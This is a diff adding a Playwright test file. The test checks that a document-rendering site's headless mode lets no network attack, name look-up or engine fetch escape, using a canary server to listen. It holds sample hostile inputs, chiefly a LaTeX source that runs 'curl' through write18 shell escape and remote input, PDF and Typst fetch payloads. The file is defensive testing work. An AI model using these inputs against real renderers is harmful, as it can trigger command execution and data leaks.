@@ -1,0 +1,109 @@
+import type { Page } from '@playwright/test'
+import { openHeadless, tryHeadless } from '../support/headless-page.ts'
+import { expect, test } from '../support/site.ts'
+import { networkAttacks } from './attacks.ts'
+import { startCanary, type Canary } from './canary.ts'
+import { carriers, labelCarriers, pageCarrier, type Carrier } from './carriers.ts'
+import { formatAttacks } from './format-attacks.ts'
+import { runCarried, runOwn } from './format-frames.ts'
+import { readLookedUp } from './net-log.ts'
+import { lookedUp, outcomeOf, printTable, type Row } from './table.ts'
+import { startUserBrowser } from './user-browser.ts'
+
+/*
+ * What reaches for a connection, through everything that is rendered: the attacks on the network in the frames of each
+ * format, with all that guards them, and what documents ask of their engines. A connection, a datagram and a look-up
+ * of a name are heard of by themselves.
+ */
+
+test.setTimeout(300_000)
+/** Without it WebRTC to loopback would be silent by itself. */
+const attackFlags = ['--allow-loopback-in-peer-connection', '--autoplay-policy=no-user-gesture-required']
+
+/** Runs something in a browser as users start it, and adds the look-ups of its log to what the canary heard. */
+async function hear(
+  siteUrl: string,
+  run: (page: Page, canary: Canary) => Promise<Row[]>,
+): Promise<{ readonly rows: readonly Row[]; readonly hits: readonly string[] }> {
+  const user = await startUserBrowser(attackFlags)
+  const canary = await startCanary()
+  try {
+    const page = await user.context.newPage()
+    await openHeadless(page, siteUrl)
+    const heard = await run(page, canary)
+    expect(page.url()).toBe(`${siteUrl}#/headless`)
+    const names = readLookedUp(await user.end())
+    const rows = heard.map((row) => {
+      const id = row.name.split(': ').at(-1) ?? row.name
+      return { ...row, leaks: [...row.leaks, ...(names.has(id) ? [lookedUp] : [])] }
+    })
+    return { rows, hits: canary.all() }
+  } finally {
+    await user.close()
+    await canary.close()
+  }
+}
+
+function expectSilence(title: string, { rows, hits }: Awaited<ReturnType<typeof hear>>): void {
+  printTable(title, rows, true)
+  expect(rows.filter(({ leaks }) => leaks.length > 0)).toEqual([])
+  expect(hits).toEqual([])
+}
+
+const perPage = (carrier: Carrier) => (carrier === pageCarrier ? 4 : 12)
+
+for (const carrier of [pageCarrier, ...carriers, ...labelCarriers]) {
+  test(`no attack on the network gets out of ${carrier.name}`, async ({ siteUrl }) => {
+    const heard = await hear(siteUrl, (page, canary) =>
+      runCarried(page, canary, carrier, { perPage: perPage(carrier), list: networkAttacks }),
+    )
+    expect(heard.rows).toHaveLength(networkAttacks.length)
+    expectSilence(`network attacks in ${carrier.name}`, heard)
+  })
+}
+
+test('no name in the words of a format is looked up', async ({ siteUrl }) => {
+  const named = formatAttacks.map((attack) => ({
+    ...attack,
+    name: attack.name.replaceAll(' ', '-'),
+    source: attack.source.replaceAll('{{http}}', '{{name}}'),
+  }))
+  expectSilence(
+    'names in the words of formats',
+    await hear(siteUrl, (page, canary) => runOwn(page, canary, named)),
+  )
+})
+
+/** Sources whose engines are asked to fetch something. */
+const documents: readonly (readonly [name: string, format: string, file: string, source: string])[] = [
+  ['latex-link', 'latex', 'a.tex', '\\usepackage{hyperref}\n\\href{ADDRESS}{x} \\url{ADDRESS}'],
+  ['latex-picture', 'latex', 'a.tex', '\\includegraphics{ADDRESS} x'],
+  ['latex-input', 'latex', 'a.tex', '\\input{ADDRESS} x'],
+  ['latex-shell', 'latex', 'a.tex', '\\immediate\\write18{curl ADDRESS} \\input{|"curl ADDRESS"} x'],
+  ['latex-pdf-action', 'latex', 'a.tex', '\\pdfcatalog{/OpenAction << /S /URI /URI (ADDRESS) >>} x'],
+  ['typst-link', 'typst', 'a.typ', '#link("ADDRESS")[x]'],
+  ['typst-picture', 'typst', 'a.typ', '#image("ADDRESS")'],
+  ['typst-read', 'typst', 'a.typ', '#read("ADDRESS")'],
+  ['typst-package', 'typst', 'a.typ', '#import "@preview/x:1.0.0"\n#import "ADDRESS"'],
+]
+
+test('no document gets its engine to connect', async ({ siteUrl }) => {
+  const heard = await hear(siteUrl, async (page, canary) => {
+    const rows: Row[] = []
+    for (const [name, format, file, source] of documents) {
+      const armed = await Promise.all(
+        ['{{http}}', '{{tcp}}', '{{name}}'].map((mark) =>
+          canary.arm(source.replaceAll('ADDRESS', mark), name),
+        ),
+      )
+      const outcomes: string[] = []
+      for (const text of armed) {
+        const files = [{ path: file, base64: Buffer.from(text).toString('base64') }]
+        outcomes.push(outcomeOf(await tryHeadless(page, { do: 'render', format, files, timeoutMs: 20_000 })))
+      }
+      rows.push({ name, control: undefined, leaks: canary.hitsOf(name), outcome: outcomes.join(', ') })
+    }
+    return rows
+  })
+  expectSilence('documents', heard)
+})
